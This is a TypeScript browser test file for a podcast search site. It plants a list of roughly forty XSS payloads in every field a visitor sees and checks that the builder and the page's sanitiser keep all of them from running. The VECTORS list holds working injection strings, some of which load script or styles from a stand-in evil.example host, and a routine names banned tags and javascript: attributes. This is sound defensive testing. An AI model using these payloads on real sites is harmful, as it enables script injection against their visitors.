import { cp, mkdir, open, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { dbConfigSchema, latestSchema } from '../src/core/site-config.ts';
import type { RunningServer } from '../src/builder/serve.ts';
import { buildWithCli, DEMO_MEDIA, serveSite } from '../scripts/demo-site.ts';
import {
  expectNoProblems,
  launchBrowser,
  NO_PROBLEMS,
  openPage,
  search,
  workFolder,
  type BrowserSession,
  type PageProblems,
} from './harness.ts';

// Script payloads in every place a podcast's inputs reach the page: feed descriptions and
// titles, the channel title, presenter and venue names, and transcript words. They go through
// the real CLI (`trawl build`, which sanitises descriptions), then render in Chromium with
// the filters and their menus open, every transcript expanded, a search and an episode route.
// No dialog may open, no payload may run (each sets window.__pwned), and nothing may be
// fetched from anywhere but the site. A second database has the raw payloads written straight
// into its descriptions, to prove the page's own sanitiser holds without the builder's.

const PWN = 'window.__pwned=true';

/** Classic XSS vectors. Each would set window.__pwned or open a dialog if it ran. */
const VECTORS: readonly string[] = [
  `<script>${PWN}</script>`,
  `<SCRIPT SRC="http://evil.example/x.js"></SCRIPT>`,
  `<img src=x onerror="${PWN}">`,
  `<img src="http://evil.example/track.png" onload="${PWN}">`,
  `<svg onload="${PWN}">`,
  `<svg><script>${PWN}</script></svg>`,
  `<svg><animate onbegin="${PWN}" attributeName="x" dur="1s"></animate></svg>`,
  `<iframe src="javascript:top.__pwned=true"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=true</script>"></iframe>`,
  `<a href="javascript:${PWN}">a javascript link</a>`,
  `<a href="JaVaScRiPt:${PWN}">a mixed-case javascript link</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${PWN}">an encoded link</a>`,
  `<a href=" javascript:${PWN}">a spaced link</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">a data link</a>`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<object data="javascript:${PWN}"></object>`,
  `<embed src="javascript:${PWN}">`,
  `<style>@import url(http://evil.example/x.css); body { background: url("javascript:alert(1)") }</style>`,
  `<div style="background-image:url(javascript:${PWN})">styled</div>`,
  `<link rel="stylesheet" href="http://evil.example/x.css">`,
  `<body onload="${PWN}">`,
  `<input autofocus onfocus="${PWN}">`,
  `<details open ontoggle="${PWN}">details</details>`,
  `<video><source onerror="${PWN}"></video>`,
  `<audio src=x onerror="${PWN}"></audio>`,
  `<marquee onstart="${PWN}">marquee</marquee>`,
  `&lt;script&gt;${PWN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${PWN}&amp;gt;`,
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${PWN}&gt;">`,
  `<form action="javascript:${PWN}"><button>submit</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">`,
  `<base href="http://evil.example/">`,
  `<template><script>${PWN}</script></template>`,
  `<img src="x" onerror="&#119;indow.__pwned=true">`,
  `<a href="https://example.org/" onclick="${PWN}">an onclick link</a>`,
  `"><script>${PWN}</script>`,
  `'-alert(1)-'`,
  `<scr<script>ipt>${PWN}</scr</script>ipt>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<x onmouseover="${PWN}">hover me</x>`,
  `<table background="javascript:${PWN}"><tr><td>cell</td></tr></table>`,
];

/** This run's own folder (set before the tests). */
let WORK: string;
const HOST_IDS = [6, 7, 12, 22];

const xml = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
const vector = (index: number): string => VECTORS[index % VECTORS.length] ?? '';

/** A podcast folder with a vector in every field a visitor sees. */
async function writeHostilePodcast(folder: string): Promise<void> {
  await rm(folder, { recursive: true, force: true });
  await mkdir(join(folder, 'transcripts'), { recursive: true });
  const items = VECTORS.map((description, index) => {
    const episode = index + 1;
    return `<item>
  <title>${xml(vector(index + 7))}</title>
  <description>${xml(description)}</description>
  <pubDate>${new Date(Date.UTC(2024, 0, episode)).toUTCString()}</pubDate>
  <itunes:duration>${60 + episode}</itunes:duration>
  <podcast:episode>${episode}</podcast:episode>
</item>`;
  });
  await writeFile(
    join(folder, 'feed.xml'),
    `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:podcast="https://podcastindex.org/namespace/1.0">
<channel><title>${xml(`<img src=x onerror="${PWN}">Hostile`)}</title>
${items.join('\n')}
</channel></rss>
`,
  );
  const presenterIds = [...HOST_IDS, 30, 31, 40, 41, 42, 43];
  await writeFile(
    join(folder, 'presenters.json'),
    JSON.stringify(
      presenterIds.map((id, index) => ({
        id,
        firstName: vector(index),
        middleName: vector(index + 11),
        lastName: vector(index + 23),
        qiElf: id === 30 || id === 31,
        guest: id >= 40,
      })),
    ),
  );
  const venueIds = [1, 2, 3, 4, 5, 6];
  await writeFile(
    join(folder, 'venues.json'),
    JSON.stringify(
      venueIds.map((id, index) => ({
        id,
        name: vector(index + 3),
        city: vector(index + 17),
        state: vector(index + 29),
        country: index % 2 === 0 ? vector(index + 5) : 'United Kingdom',
      })),
    ),
  );
  await writeFile(
    join(folder, 'overrides.json'),
    JSON.stringify(
      VECTORS.map((_, index) => ({
        episode: String(index + 1),
        presenter1: presenterIds[index % presenterIds.length],
        presenter2: presenterIds[(index + 3) % presenterIds.length],
        presenter3: presenterIds[(index + 6) % presenterIds.length],
        venue: venueIds[index % venueIds.length],
        live: index % 5 === 0,
        compilation: index % 7 === 0,
      })),
    ),
  );
  await writeFile(
    join(folder, 'trawl.config.json'),
    JSON.stringify({
      site: { hostIds: HOST_IDS, pageSize: 100, wfhVenueIds: [2], officeVenueIds: [1, 4] },
    }),
  );
  for (const [index] of VECTORS.entries()) {
    const text = `hello there. ${vector(index + 13)} said nobody. ${vector(index + 2)}`;
    let time = 0;
    const words = text.split(/\s+/).map((word) => {
      time += 0.4;
      return { word: ` ${word}`, start: time - 0.4, end: time - 0.1, probability: 0.9 };
    });
    await writeFile(
      join(folder, 'transcripts', `${index + 1}.json`),
      JSON.stringify({ segments: [{ start: 0, end: time, text, words }] }),
    );
  }
}

/** A copy of a built version whose descriptions are the raw vectors, re-chunked. */
async function writeRawDescriptions(from: string, to: string): Promise<void> {
  await rm(to, { recursive: true, force: true });
  await cp(from, to, { recursive: true });
  const { latest } = latestSchema.parse(
    JSON.parse(await readFile(join(to, 'latest.json'), 'utf8')),
  );
  const config = dbConfigSchema.parse(
    JSON.parse(await readFile(join(to, latest, 'config.json'), 'utf8')),
  );
  const chunkName = (index: number) =>
    `${config.urlPrefix}${String(index).padStart(config.suffixLength, '0')}`;
  const whole = join(to, 'whole.sqlite3');
  const chunks = Math.ceil(config.databaseLengthBytes / config.serverChunkSize);
  const parts: Buffer[] = [];
  for (let index = 0; index < chunks; index += 1)
    parts.push(await readFile(join(to, latest, chunkName(index))));
  await writeFile(whole, Buffer.concat(parts));
  const db = new Database(whole);
  const update = db.prepare('UPDATE episode_descriptions SET description = ? WHERE id = ?');
  const ids = db.prepare('SELECT id FROM episode_descriptions ORDER BY id').pluck().all();
  ids.forEach((id, index) => update.run(vector(index), Number(id)));
  db.close();
  const bytes = await readFile(whole);
  await rm(whole);
  for (let index = 0; index < chunks; index += 1) await rm(join(to, latest, chunkName(index)));
  const count = Math.ceil(bytes.length / config.serverChunkSize);
  for (let index = 0; index < count; index += 1) {
    const handle = await open(join(to, latest, chunkName(index)), 'w');
    await handle.write(
      bytes.subarray(index * config.serverChunkSize, (index + 1) * config.serverChunkSize),
    );
    await handle.close();
  }
  await writeFile(
    join(to, latest, 'config.json'),
    JSON.stringify({ ...config, databaseLengthBytes: bytes.length }),
  );
}

let session: BrowserSession;
let server: RunningServer;
let rawServer: RunningServer;

beforeAll(async () => {
  WORK = await workFolder('xss');
  await writeHostilePodcast(join(WORK, 'podcast'));
  await buildWithCli(join(WORK, 'podcast'), join(WORK, 'db'));
  await writeRawDescriptions(join(WORK, 'db'), join(WORK, 'raw-db'));
  server = await serveSite(join(WORK, 'db'), DEMO_MEDIA);
  rawServer = await serveSite(join(WORK, 'raw-db'), DEMO_MEDIA);
  session = await launchBrowser();
});

afterAll(async () => {
  await session.close();
  await server.close();
  await rawServer.close();
});

/** Everything a payload could have left in the page. */
async function dangerousMarkup(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    const root = document.getElementById('root');
    if (!root) return ['no #root'];
    // Publisher HTML may keep only simple formatting and links (src/core/html-policy.ts).
    const banned =
      'script, iframe, object, embed, style, link, meta, base, form, svg, math, img, input, button, video, audio, template, noscript, table';
    for (const element of root.querySelectorAll(`.episode-row__description :is(${banned})`)) {
      found.push(element.outerHTML.slice(0, 80));
    }
    for (const element of root.querySelectorAll('script, iframe, object, embed, base, meta')) {
      found.push(element.outerHTML.slice(0, 80));
    }
    for (const element of root.querySelectorAll('*')) {
      for (const attribute of element.getAttributeNames()) {
        const value = element.getAttribute(attribute) ?? '';
        if (/^on/i.test(attribute)) found.push(`${element.tagName} ${attribute}`);
        if (
          /^(href|src|action|formaction|background|srcdoc)$/i.test(attribute) &&
          /^\s*(javascript|data|vbscript):/i.test(value)
        ) {
          found.push(`${element.tagName} ${attribute}=${value.slice(0, 40)}`);
        }
      }
    }
    return found;
  });
}

/** Opens the site, every menu and transcript, searches, and opens an episode's route. */
async function exercise(
  baseUrl: string,
): Promise<{ page: Page; problems: PageProblems; dialogs: string[] }> {
  const { page, problems } = await openPage(session, baseUrl);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss().catch(() => undefined);
  });
  await page.goto(baseUrl);
  await page.getByText(`showing all ${VECTORS.length} episodes`).waitFor();
  await page.getByRole('button', { name: /show filters/ }).click();
  for (const name of ['Presenters', 'Venues']) {
    const select = page.getByRole('combobox', { name });
    await select.click();
    await page.getByRole('option').first().waitFor();
    // Every option of the menu is rendered; pick two so their labels show as chips too.
    for (let pick = 0; pick < 2; pick += 1) {
      await select.click();
      await page.getByRole('option').nth(pick).click();
    }
    await select.press('Escape');
  }
  await page.getByRole('button', { name: /hide filters/ }).click();
  await page.goto(baseUrl);
  await page.getByText(`showing all ${VECTORS.length} episodes`).waitFor();
  await page.getByRole('button', { name: '[+] expand all' }).click();
  await page.getByText('Loading transcript…').first().waitFor({ state: 'detached' });
  // Hover and focus what the payloads would have wanted a visitor to touch.
  for (const target of await page.locator('.episode-row__description *').all()) {
    await target.hover({ timeout: 1_000 }).catch(() => undefined);
  }
  await search(page, `<img src=x onerror=${PWN}>`, /^found \d+ of \d+ episodes$/);
  await page.goto(`${baseUrl}/episodes/3?q=${encodeURIComponent(`<script>${PWN}</script>`)}`);
  await page.getByText(/^found \d+ of \d+ episodes$/).waitFor();
  await page.getByText('Loading transcript…').first().waitFor({ state: 'detached' });
  return { page, problems, dialogs };
}

describe(`${VECTORS.length} XSS vectors in descriptions, titles, people, venues and transcripts`, () => {
  test('the vectors are really there: titles, names and words render as text', async () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(30);
    const { page, problems } = await openPage(session, server.url);
    await page.goto(server.url);
    await page.getByText(`showing all ${VECTORS.length} episodes`).waitFor();
    await expect(page.getByRole('heading', { level: 1 }).innerText()).resolves.toBe(
      `<img src=x onerror="${PWN}">Hostile`,
    );
    expect(await page.getByText(`1: ${vector(7)}`, { exact: true }).count()).toBe(1);
    expectNoProblems(problems);
    await page.close();
  });

  test('sanitised by the builder: no dialog, no payload runs, no foreign request, no dangerous markup', async () => {
    const { page, problems, dialogs } = await exercise(server.url);
    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => Reflect.get(window, '__pwned'))).toBeUndefined();
    expect(await dangerousMarkup(page)).toEqual([]);
    expectNoProblems(problems);
    await page.close();
  });

  test('raw payloads written into the database: the page sanitises them itself', async () => {
    const { page, problems, dialogs } = await exercise(rawServer.url);
    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => Reflect.get(window, '__pwned'))).toBeUndefined();
    expect(await dangerousMarkup(page)).toEqual([]);
    // Chromium reports an inline handler or <base> as a CSP violation as soon as HTML holding
    // it is parsed, even in DOMPurify's inert document where it can never run: those reports
    // are the raw payloads being blocked. Nothing else may be reported.
    const blockedWhileSanitising =
      /^(Executing inline event handler violates|Setting the document's base URI to 'http:\/\/evil\.example\/'|Content Security Policy violation: (script-src-attr inline|base-uri http:\/\/evil\.example\/))/;
    expect(problems.cspViolations.length).toBeGreaterThan(0);
    expect({
      ...problems,
      consoleErrors: problems.consoleErrors.filter((text) => !blockedWhileSanitising.test(text)),
      cspViolations: problems.cspViolations.filter((text) => !blockedWhileSanitising.test(text)),
    }).toEqual(NO_PROBLEMS);
    await page.close();
  });

  test('a javascript: source link in trawl.config.json is refused at build time', async () => {
    const folder = join(WORK, 'podcast-config');
    await cp(join(WORK, 'podcast'), folder, { recursive: true });
    await writeFile(
      join(folder, 'trawl.config.json'),
      JSON.stringify({ site: { sourceUrl: `javascript:${PWN}` } }),
    );
    await expect(buildWithCli(folder, join(WORK, 'db-config'))).rejects.toThrow(
      /trawl\.config\.json: site\.sourceUrl: must be an http\(s\) URL/,
    );
  });
});
